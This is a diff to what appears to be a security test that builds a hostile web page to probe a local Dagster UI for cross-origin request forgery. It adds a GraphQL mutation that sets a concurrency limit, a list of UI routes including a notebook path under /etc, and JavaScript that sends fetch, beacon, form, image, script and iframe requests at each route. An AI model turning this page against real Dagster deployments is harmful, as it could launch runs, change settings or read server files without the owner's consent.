@@ -16,9 +16,21 @@ MUTATION = """mutation Attack($plain: ExecutionParams!, $configured: ExecutionPa
   addDynamicPartition(partitionKey: "STOLEN", partitionsDefName: "symbol", repositorySelector: $where) {__typename}
   plain: launchPipelineExecution(executionParams: $plain) {__typename}
   configured: launchPipelineExecution(executionParams: $configured) {
-    __typename ...on RunConfigValidationInvalid {errors {message}}}}"""
-"""Each part would leave a trace: a symbol, and runs."""
+    __typename ...on RunConfigValidationInvalid {errors {message}}}
+  pool: setConcurrencyLimit(concurrencyKey: "STOLEN", limit: 7)}"""
+"""Each part would leave a trace: a symbol, runs, and a pool."""
 WAYS = 15
+ROUTES = (
+    "server_info",
+    "runs",
+    "logs/any/compute_logs/any.err",
+    "download_debug/any",
+    "notebook?path=/etc/any.ipynb&repoLocName=mohlcv_dagster.definitions",
+    "report_asset_materialization/raw_1s?description=STOLEN",
+    "report_asset_check/raw_1s?check_name=intact&passed=true",
+    "report_asset_observation/raw_1s",
+)
+"""What else the UI serves, beside GraphQL."""
 
 _PAGE = """<!doctype html><title>hostile</title><body><script>
 const ui = %(ui)s, query = %(query)s, variables = %(variables)s;
@@ -65,6 +77,16 @@ const tries = () => [
   told("beacon", Promise.resolve(String(navigator.sendBeacon(ui + "/graphql", json)))),
   told("socket", socket()),
 ];
+const report = JSON.stringify({description: "STOLEN"});
+const reached = url => [
+  told("read", fetch(url)), told("asked", fetch(url, {mode: "no-cors"})), told("image", element("img", url)),
+  told("script", element("script", url)), told("frame", element("iframe", url)),
+  told("text", fetch(url, {method: "POST", mode: "no-cors", body: report})),
+  told("JSON", fetch(url, {method: "POST", body: report, headers: {"Content-Type": "application/json"}})),
+  told("form", form(url, "application/x-www-form-urlencoded", {description: "STOLEN"})),
+  told("beacon", Promise.resolve(String(navigator.sendBeacon(url, report)))),
+];
+window.reach = async url => Object.fromEntries(await Promise.all(reached(url)));
 window.attack = async () => Object.fromEntries(await Promise.all(tries()));
 window.follow = () => { location = url; };
 </script>"""
